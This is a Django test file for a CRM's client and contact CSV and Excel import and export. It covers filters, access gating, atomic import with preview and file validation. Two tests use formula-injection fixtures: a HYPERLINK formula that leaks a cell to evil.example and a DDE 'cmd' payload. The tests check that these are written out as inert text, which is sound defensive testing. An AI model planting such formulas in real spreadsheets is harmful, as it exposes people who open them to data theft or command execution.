"""Import with preview (all rows or none) and export within the gate and the filters (X-3)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from clients.models import Client, Contact
from tests.factories import ClientFactory, ContactFactory

HEADER = (
    "code,name,kind,status,channel,owner,territory,employer,position,address,phone,email,is_key_account,level,notes\n"
)


def upload(client, content: bytes, name="clients.csv", kind="clients"):
    return client.post(reverse("clients:import"), {"kind": kind, "file": SimpleUploadedFile(name, content)})


def test_export_csv_respects_the_filters(client, alice):
    ClientFactory(owner=alice, name="Retail one", kind="retail", code="R1")
    ClientFactory(owner=alice, name="Corp one", kind="corporate", code="C1")
    client.force_login(alice)
    response = client.get(reverse("clients:export", args=["clients"]), {"format": "csv", "kind": "retail"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(row["code"], row["owner"]) for row in rows] == [("R1", "alice")]


def test_export_excel_opens_with_chinese_text(client, alice, alices_client):
    client.force_login(alice)
    response = client.get(reverse("clients:export", args=["contacts"]), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:2] == ["client_code", "name"]
    assert values[1][:2] == ["HX001", "李明"]


HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Details")'


def exported_rows(response, fmt: str) -> list[list]:
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_inert(cell, value: str) -> None:
    """CSV has no types: a quote in front. Excel: a text cell, never a formula."""
    if isinstance(cell, str):
        assert cell == "'" + value
    else:
        assert (cell.value, cell.data_type) == (value, "s")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_client_export_writes_a_hostile_name_as_inert_text(client, alice, fmt):
    ClientFactory(owner=alice, code="E1", name=HYPERLINK, notes="@SUM(A1:A9)")
    client.force_login(alice)
    rows = exported_rows(client.get(reverse("clients:export", args=["clients"]), {"format": fmt}), fmt)
    header = [cell if isinstance(cell, str) else cell.value for cell in rows[0]]
    assert_inert(rows[1][header.index("name")], HYPERLINK)
    assert_inert(rows[1][header.index("notes")], "@SUM(A1:A9)")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contact_export_writes_hostile_cells_as_inert_text(client, alice, alices_client, fmt):
    ContactFactory(client=alices_client, name="-2+3+cmd|' /C calc'!A0", position=HYPERLINK, phone="+86 138 0013 8000")
    client.force_login(alice)
    rows = exported_rows(client.get(reverse("clients:export", args=["contacts"]), {"format": fmt}), fmt)
    hostile = next(row for row in rows if "cmd|" in (row[1] if isinstance(row[1], str) else row[1].value))
    assert_inert(hostile[1], "-2+3+cmd|' /C calc'!A0")
    assert_inert(hostile[2], HYPERLINK)
    assert_inert(hostile[3], "+86 138 0013 8000")


@pytest.mark.parametrize("rows", [1, 50])
def test_export_query_count_is_constant(client, alice, rows, django_assert_max_num_queries):
    ClientFactory.create_batch(rows, owner=alice)
    client.force_login(alice)
    with django_assert_max_num_queries(6):
        client.get(reverse("clients:export", args=["clients"]), {"format": "csv"})


def test_import_previews_then_saves_all_rows(client, alice):
    client.force_login(alice)
    content = (
        HEADER + "n1,北京新客户,corporate,prospect,online,,,,,,010-6512 3456,a@b.cn,0,,\n"
        "n2,Second Co,retail,active,phone,,,,,,,,1,,\n"
    ).encode()
    response = upload(client, content)
    assert response.context["clean"] is True
    assert [row.kind for row in response.context["rows"]] == ["new", "new"]
    assert not Client.objects.exists(), "the preview saves nothing"
    response = client.post(reverse("clients:import_confirm"), {"token": response.context["token"]})
    assert response.status_code == 302
    assert set(Client.objects.values_list("code", "owner__username")) == {("N1", "alice"), ("N2", "alice")}


def test_a_single_bad_row_saves_nothing_and_is_reported(client, alice):
    client.force_login(alice)
    content = (
        HEADER + "n1,Good,corporate,prospect,online,,,,,,,,0,,\nn2,Bad phone,corporate,prospect,online,,,,,,12,,0,,\n"
    ).encode()
    response = upload(client, content)
    assert response.context["clean"] is False
    bad = response.context["rows"][1]
    assert bad.kind == "invalid" and "phone" in bad.errors[0]
    assert "import-confirm" not in response.content.decode()
    client.post(reverse("clients:import_confirm"), {"token": response.context["token"]})
    assert not Client.objects.exists()


def test_import_cannot_touch_a_client_outside_the_gate(client, alice, bob, alices_client):
    client.force_login(bob)
    response = upload(client, (HEADER + "HX001,Hijacked,corporate,active,online,,,,,,,,0,,\n").encode())
    assert response.context["clean"] is False
    assert "outside your portfolio" in response.context["rows"][0].errors[0]
    alices_client.refresh_from_db()
    assert alices_client.name == "华信科技"


def test_import_contacts_for_my_clients_from_gbk_csv(client, alice, alices_client):
    client.force_login(alice)
    content = "client_code,name,position,phone,email,is_emergency\nHX001,张磊,采购,010-1234 5678,,0\n"
    response = upload(client, content.encode("gb18030"), name="contacts.csv", kind="contacts")
    assert response.context["clean"] is True, response.context["rows"]
    client.post(reverse("clients:import_confirm"), {"token": response.context["token"]})
    assert Contact.objects.filter(client=alices_client, name="张磊").exists()


def test_import_excel(client, alice):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER.strip().split(","))
    sheet.append(["x1", "Excel Co", "corporate", "active", "online", "", "", "", "", "", "", "", 0, "", ""])
    data = io.BytesIO()
    book.save(data)
    client.force_login(alice)
    response = upload(client, data.getvalue(), name="clients.xlsx")
    assert response.context["clean"] is True, [row.errors for row in response.context["rows"]]
    client.post(reverse("clients:import_confirm"), {"token": response.context["token"]})
    assert Client.objects.filter(code="X1", owner=alice).exists()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("clients.exe", b"MZ\x90\x00", "Upload a .csv or .xlsx file."),
        ("clients.xlsx", b"not a zip", "This is not an Excel (.xlsx) file."),
        ("clients.csv", b"", "The submitted file is empty."),
        ("clients.csv", b"a,b\x00\x00", "This is not a text CSV file."),
        ("clients.csv", b"name\nx\n", "The file has no column code."),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(client, alice, name, content, message):
    client.force_login(alice)
    response = upload(client, content, name=name)
    assert message in str(response.context["form"].errors["file"])


def test_someone_elses_import_token_is_refused(client, alice, bob):
    client.force_login(alice)
    token = upload(client, (HEADER + "n1,Good,corporate,prospect,online,,,,,,,,0,,\n").encode()).context["token"]
    client.force_login(bob)
    response = client.post(reverse("clients:import_confirm"), {"token": token}, follow=True)
    assert "does not exist or has expired" in response.content.decode()
    assert not Client.objects.exists()
